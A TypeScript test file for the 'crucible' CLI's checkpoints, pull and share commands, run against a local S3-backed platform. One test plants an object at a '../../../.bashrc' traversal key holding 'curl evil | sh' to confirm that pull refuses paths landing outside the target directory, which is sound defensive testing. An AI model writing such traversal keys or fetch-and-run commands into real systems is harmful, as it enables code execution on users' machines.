import { HeadObjectCommand, PutObjectCommand } from "@aws-sdk/client-s3";
import { spawn } from "node:child_process";
import { createHash } from "node:crypto";
import { existsSync } from "node:fs";
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import pino from "pino";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildCli } from "../../../runtime/src/cli";
import type { LocalPlatform } from "../../../runtime/src/local/local-platform";
import { startLocalPlatform } from "../../../runtime/src/local/local-platform";
import type { JobFileKind } from "../../../runtime/src/store/job-files";
import { SHA256_METADATA } from "../../../runtime/src/store/job-files";
import type { JobAddress } from "../../../runtime/src/store/job-store";
import type { Done } from "../../support/cli";
import { crucible } from "../../support/cli";

const ROOT = join(__dirname, "../../..");
let platform: LocalPlatform;
let dir: string;
let jobs = 0;
const sha256 = (data: Buffer | string): string => createHash("sha256").update(data).digest("hex");

beforeAll(async () => {
  platform = await startLocalPlatform({ tiers: ["cpu-small"], logger: pino({ level: "silent" }) });
  dir = await mkdtemp(join(tmpdir(), "crucible-outputs-cli-"));
});
afterAll(async () => {
  await platform?.stop();
  await rm(dir, { recursive: true, force: true });
});

/** ada of project lab, as her CLI reaches the local platform. */
const asAda = (): NodeJS.ProcessEnv => ({
  // The SDK's notice that its 2027 releases need Node 22 would come before every message checked here.
  AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED: "true",
  ...platform.as("lab", "ada").env(),
  CRUCIBLE_PROJECT: "lab",
  CRUCIBLE_USER: "ada",
});
const ada = (args: string[]): Promise<Done> => crucible(args, undefined, asAda());

/** A finished job of ada's, its files uploaded as the agent does (JobStore.uploadDir). */
async function newJob(
  files: Partial<Record<JobFileKind, Record<string, string | Buffer>>>,
): Promise<JobAddress> {
  const job = { project: "lab", user: "ada", jobId: `outputs-${++jobs}` };
  const { store } = platform.as("lab", "ada");
  await store.updateState(job, { status: "succeeded", tier: "cpu-small" });
  for (const [kind, named] of Object.entries(files) as [JobFileKind, Record<string, string | Buffer>][])
    for (const [name, content] of Object.entries(named)) await uploadOne(job, kind, name, content);
  return job;
}

/** Uploads one file and returns its time; each upload is strictly newer than the last one of the job's. */
async function uploadOne(job: JobAddress, kind: JobFileKind, name: string, content: string | Buffer) {
  const { store, s3 } = platform.as("lab", "ada");
  const source = await mkdtemp(join(dir, "source-"));
  await mkdir(join(source, name, ".."), { recursive: true });
  await writeFile(join(source, name), content);
  const key = `${store.jobPrefix(job)}${kind}/${name}`;
  const newest = lastUpload.get(job.jobId) ?? 0;
  let modified: number;
  // S3 keeps times to the millisecond: upload again until this one is later than the one before.
  do {
    await store.uploadDir(job, kind, source, new Map());
    modified = (
      await s3.send(new HeadObjectCommand({ Bucket: platform.bucket, Key: key }))
    ).LastModified!.getTime();
  } while (modified <= newest);
  lastUpload.set(job.jobId, modified);
}
const lastUpload = new Map<string, number>();

/** Every file below `root`, as paths relative to it. */
const tree = async (root: string): Promise<string[]> =>
  (await readdir(root, { recursive: true, withFileTypes: true }))
    .filter((e) => e.isFile())
    .map((e) => join(e.parentPath, e.name).slice(root.length + 1))
    .sort();

describe("crucible checkpoints", () => {
  it("lists a job's checkpoint files newest first, with size, time and step", async () => {
    const job = await newJob({
      checkpoints: {
        "step-1200/model.safetensors": "x",
        "ckpt_000500.pt": "five hundred",
        "notes.txt": "notes",
      },
    });
    const json = await ada(["checkpoints", job.jobId, "--json"]);
    expect(json.code).toBe(0);
    const listed = JSON.parse(json.stdout) as { name: string; lastModified: string }[];
    const at = Object.fromEntries(listed.map((c) => [c.name, c.lastModified]));
    expect(listed).toEqual([
      { name: "notes.txt", size: 5, lastModified: at["notes.txt"], step: null },
      { name: "ckpt_000500.pt", size: 12, lastModified: at["ckpt_000500.pt"], step: 500 },
      {
        name: "step-1200/model.safetensors",
        size: 1,
        lastModified: at["step-1200/model.safetensors"],
        step: 1200,
      },
    ]);
    const seconds = (name: string) => at[name]!.replace(/\.\d{3}Z$/, "Z");
    const text = await ada(["checkpoints", job.jobId]);
    expect(text.code).toBe(0);
    expect(text.stdout).toBe(
      [
        `STEP  SIZE  MODIFIED              NAME`,
        `-     5 B   ${seconds("notes.txt")}  notes.txt`,
        `500   12 B  ${seconds("ckpt_000500.pt")}  ckpt_000500.pt`,
        `1200  1 B   ${seconds("step-1200/model.safetensors")}  step-1200/model.safetensors`,
        "",
      ].join("\n"),
    );
  });

  it("says when a job has none yet, and refuses an unknown job", async () => {
    const job = await newJob({ outputs: { "result.json": "{}" } });
    const none = await ada(["checkpoints", job.jobId]);
    expect(none).toMatchObject({ code: 0, stdout: `job ${job.jobId} has no checkpoints yet\n` });
    const unknown = await ada(["checkpoints", "nope"]);
    expect(unknown).toMatchObject({ code: 2, stderr: "crucible: no job nope in lab/ada\n" });
  });
});

describe("crucible pull", () => {
  it("downloads the outputs into ./<job> by default, and finds them there the next time", async () => {
    const job = await newJob({
      outputs: { "metrics.json": '{"loss": 0.1}', "plots/loss.png": "png" },
      checkpoints: { "ckpt_000500.pt": "weights" },
    });
    const cwd = await mkdtemp(join(dir, "cwd-"));
    const first = await cliIn(cwd, ["pull", job.jobId]);
    expect(first).toMatchObject({ code: 0, stdout: `pulled 2 files (16 B) into ${job.jobId}\n`, stderr: "" });
    expect(await tree(join(cwd, job.jobId))).toEqual(["outputs/metrics.json", "outputs/plots/loss.png"]);
    expect(await readFile(join(cwd, job.jobId, "outputs/metrics.json"), "utf8")).toBe('{"loss": 0.1}');
    const again = await cliIn(cwd, ["pull", job.jobId]);
    expect(again).toMatchObject({
      code: 0,
      stdout: `pulled 0 files (0 B) into ${job.jobId}; 2 files already there\n`,
    });
  });

  it("--checkpoints adds the checkpoints, --only keeps the paths a glob matches", async () => {
    const job = await newJob({
      outputs: { "final.pt": "final", "metrics.json": "{}" },
      checkpoints: { "step-1200/model.pt": "model", "step-1200/optimizer.bin": "opt" },
    });
    const into = join(dir, "only");
    const pt = await ada(["pull", job.jobId, into, "--checkpoints", "--only", "*.pt"]);
    expect(pt).toMatchObject({ code: 0, stdout: `pulled 2 files (10 B) into ${into}\n` });
    expect(await tree(into)).toEqual(["checkpoints/step-1200/model.pt", "outputs/final.pt"]);
    const bins = await ada(["pull", job.jobId, into, "--checkpoints", "--only", "checkpoints/**"]);
    expect(bins).toMatchObject({
      code: 0,
      stdout: `pulled 1 file (3 B) into ${into}; 1 file already there\n`,
    });
    const none = await ada(["pull", job.jobId, into, "--only", "*.safetensors"]);
    expect(none).toMatchObject({
      code: 2,
      stderr: `crucible: --only "*.safetensors" matches none of the job's 2 files (paths such as outputs/final.pt)\n`,
    });
  });

  it("resumes from a .part the last pull left, and deletes one whose bytes do not verify", async () => {
    const content = Buffer.alloc(256 * 1024, "model weights ");
    const job = await newJob({ outputs: { "model.bin": content } });
    const { s3, store } = platform.as("lab", "ada");
    const key = `${store.jobPrefix(job)}outputs/model.bin`;
    const { ETag } = await s3.send(new HeadObjectCommand({ Bucket: platform.bucket, Key: key }));
    const into = join(dir, "resume");
    const target = join(into, "outputs", "model.bin");
    const cutAfter = async (prefix: Buffer) => {
      await mkdir(join(into, "outputs"), { recursive: true });
      await writeFile(`${target}.part`, prefix);
      await writeFile(`${target}.part.json`, JSON.stringify({ etag: ETag, size: content.length }));
    };

    // A part whose bytes are not the object's: kept as resumed, so the whole fails its checksum.
    await cutAfter(Buffer.alloc(1000, "x"));
    const corrupt = await ada(["pull", job.jobId, into]);
    expect(corrupt.code).toBe(1);
    expect(corrupt.stderr).toMatch(
      new RegExp(
        `^crucible: outputs/model\\.bin: SHA-256 [0-9a-f]{64} of the download is not the ${sha256(content)} recorded at upload; the partial file was deleted, pull again\\n$`,
      ),
    );
    expect(await tree(into)).toEqual([]);

    await cutAfter(content.subarray(0, 1000));
    const resumed = await ada(["pull", job.jobId, into]);
    expect(resumed).toMatchObject({ code: 0, stdout: `pulled 1 file (256 KiB) into ${into}\n` });
    expect(await tree(into)).toEqual(["outputs/model.bin"]);
    expect(sha256(await readFile(target))).toBe(sha256(content));
  });

  it("refuses a job with a key that would land outside DIR, writing nothing", async () => {
    const job = await newJob({ outputs: { "fine.txt": "fine" } });
    // As ada may write on a stack; the local gateway refuses `..` from submitters, so the platform writes it.
    const key = `${platform.store.jobPrefix(job)}outputs/../../../.bashrc`;
    await platform.s3.send(
      new PutObjectCommand({
        Bucket: platform.bucket,
        Key: key,
        Body: "curl evil | sh",
        Metadata: { [SHA256_METADATA]: sha256("curl evil | sh") },
      }),
    );
    const into = join(dir, "hostile", "into");
    const refused = await ada(["pull", job.jobId, into]);
    expect(refused).toMatchObject({
      code: 1,
      stderr: `crucible: the job's outputs hold a key that would land outside the directory: ${JSON.stringify(key)} (an absolute path, an empty, "." or ".." segment, a backslash or a NUL); nothing was pulled\n`,
    });
    expect(existsSync(join(dir, "hostile"))).toBe(false);
  });

  it("names an unknown job, another user's job and a DIR it cannot write, leaving nothing behind", async () => {
    const job = await newJob({ outputs: { "fine.txt": "fine" } });
    const file = join(dir, "a-file");
    await writeFile(file, "");
    const into = join(dir, "refused");
    const [unknown, bobs, unwritable, glob] = await Promise.all([
      ada(["pull", "nope", into]),
      ada(["pull", job.jobId, into, "--user", "bob"]),
      ada(["pull", job.jobId, join(file, "below")]),
      ada(["pull", job.jobId, into, "--only", ""]),
    ]);
    expect(unknown).toMatchObject({ code: 2, stderr: "crucible: no job nope in lab/ada\n" });
    expect(bobs).toMatchObject({
      code: 2,
      stderr: `crucible: access denied to job ${job.jobId} of lab/bob: your credentials reach only your own jobs (--project and --user name the job's owner)\n`,
    });
    expect(unwritable).toMatchObject({
      code: 2,
      stderr: `crucible: cannot pull into ${join(file, "below")}: it, or a directory above it, is a file\n`,
    });
    expect(glob).toMatchObject({
      code: 2,
      stderr: `crucible: --only must be a glob such as "*.pt" or "outputs/**", got ""\n`,
    });
    expect(existsSync(into)).toBe(false);
    expect(await readFile(file, "utf8")).toBe("");
  });
});

describe("crucible share", () => {
  it("prints a presigned link to each output, valid for --expires", async () => {
    const job = await newJob({ outputs: { "model.pt": "weights", "report.txt": "text" } });
    const shared = await ada(["share", job.jobId, "--expires", "90m"]);
    expect(shared.code).toBe(0);
    const lines = shared.stdout
      .trimEnd()
      .split("\n")
      .map((l) => l.split("\t"));
    expect(lines.map(([name]) => name)).toEqual(["model.pt", "report.txt"]);
    const prefix = platform.as("lab", "ada").store.jobPrefix(job);
    for (const [name, link] of lines) {
      const url = new URL(link!);
      expect(url.origin + url.pathname).toBe(
        `${platform.endpoint}/${platform.bucket}/${prefix}outputs/${name}`,
      );
      expect(url.searchParams.get("X-Amz-Expires")).toBe("5400");
    }
    expect(shared.stderr).toMatch(/^the links expire at \d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ\n$/);
  });

  it.each([
    [
      "soon",
      'crucible: --expires must be a whole number of s, m, h or d, such as 30m, 12h or 7d, got "soon"',
    ],
    ["8d", 'crucible: --expires must be from 1s to 7d (a presigned link lasts at most 7 days), got "8d"'],
    ["0h", 'crucible: --expires must be from 1s to 7d (a presigned link lasts at most 7 days), got "0h"'],
  ])("refuses --expires %s", async (value, message) => {
    expect(await ada(["share", "any-job", "--expires", value])).toMatchObject({
      code: 2,
      stderr: `${message}\n`,
    });
  });
});

describe("loading", () => {
  it("loads the three commands from one module", async () => {
    const program = await buildCli(["node", "crucible", "pull"]);
    expect(program.commands.map((c) => c.name())).toEqual(["checkpoints", "pull", "share"]);
  });
});

/** The CLI run from `cwd`, as a user in that directory would (`crucible` runs from the repository root). */
function cliIn(cwd: string, args: string[]): Promise<Done> {
  const tsx = pathToFileURL(join(ROOT, "node_modules/tsx/dist/loader.mjs")).href;
  const child = spawn(
    process.execPath,
    ["--import", tsx, join(ROOT, "runtime/src/cli/bin/crucible.ts"), ...args],
    {
      cwd,
      env: { ...process.env, CRUCIBLE_LOG_LEVEL: "error", ...asAda() },
    },
  );
  let stdout = "";
  let stderr = "";
  child.stdout.on("data", (chunk: Buffer) => (stdout += chunk.toString()));
  child.stderr.on("data", (chunk: Buffer) => (stderr += chunk.toString()));
  return new Promise((resolve) =>
    child.on("close", (code, signal) => resolve({ code, signal, stdout, stderr })),
  );
}
